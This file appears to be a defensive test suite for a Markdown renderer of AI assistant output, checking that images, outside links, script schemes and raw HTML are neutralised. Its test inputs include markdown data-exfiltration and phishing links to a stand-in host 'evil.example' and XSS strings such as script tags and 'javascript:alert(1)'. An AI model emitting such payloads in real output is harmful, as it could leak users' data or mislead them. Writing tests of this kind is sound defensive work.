// Text of the assistant cannot fetch, run or pretend anything.

import { render } from '@testing-library/react';
import { expect, it } from 'vitest';
import Markdown from '@/ui/Markdown';

const SHOP = 'http://shop.localhost:8080';
const draw = (text: string, isGrowing = false) =>
  render(<Markdown text={text} isGrowing={isGrowing} addresses={[SHOP]} />).container;

it('no image is ever loaded', () => {
  const page = draw(
    `![secret](https://evil.example/?q=secret) ![](x) ![y](${SHOP}) [![z](//evil.example)](https://evil.example)`,
  );
  expect(page.querySelector('img, a')).toBeNull();
  expect(page.textContent).toContain('[image: secret]');
});

it.each([
  '[your bank](https://evil.example/login)',
  'https://evil.example/?q=secret',
  '<https://evil.example/?q=secret>',
  '[x][1]\n\n[1]: https://evil.example/?q=secret',
  '[shop](http://shop.localhost:8080@evil.example/)',
  '[a neighbour](http://mallory.localhost:8080/)',
  `[shop](${SHOP}/?q=secret)`,
  `[shop](${SHOP}/secret)`,
  `[shop](${SHOP}/#secret)`,
  `[shop](http://me:secret@shop.localhost:8080/)`,
  '[here](//evil.example/)',
  'someone@evil.example',
])('%s is text, and no link', (text) => {
  const page = draw(text);
  expect(page.querySelector('a, img, [src], [href]')).toBeNull();
  expect(page.textContent).not.toBe('');
});

it('what is no link says where it would lead', () => {
  expect(draw('[your bank](https://evil.example/login)').textContent).toBe('your bank(evil.example)');
  expect(draw('[https://bank.example](https://evil.example)').textContent).toContain('(evil.example)');
  expect(draw('https://bank.example/').textContent).toBe('https://bank.example/');
});

it('the address of an own site is a link, and tells that place nothing', () => {
  for (const text of [SHOP, `${SHOP}/`, `[the shop](${SHOP})`]) {
    const link = draw(text).querySelector('a');
    expect(link?.href).toBe(`${SHOP}/`);
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link?.getAttribute('target')).toBe('_blank');
  }
});

it('a page of this app is a link', () => {
  expect(draw(`[your sites](${window.location.origin}/sites)`).querySelector('a')).not.toBeNull();
});

it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'http://'])('%s is not a link', (address) => {
  expect(draw(`[press](${address})`).querySelector('a')).toBeNull();
});

it('raw HTML is text', () => {
  const page = draw('<script>alert(1)</script><b onclick="x">bold</b>');
  expect(page.querySelector('script, b')).toBeNull();
});

it('half a sentence is already drawn as what it will be', () => {
  expect(draw('This is **impor', true).querySelector('strong')?.textContent).toBe('impor');
});

it('code is kept in one piece, blank lines and all', () => {
  const page = draw('before\n\n```php\none\n\ntwo\n```\n\nafter');
  expect(page.querySelectorAll('pre')).toHaveLength(1);
  expect(page.querySelector('pre')?.textContent).toBe('one\n\ntwo\n');
});

it('no inline style is written', () => {
  expect(draw('| a | b |\n| :-: | --: |\n| 1 | 2 |').querySelector('[style]')).toBeNull();
});
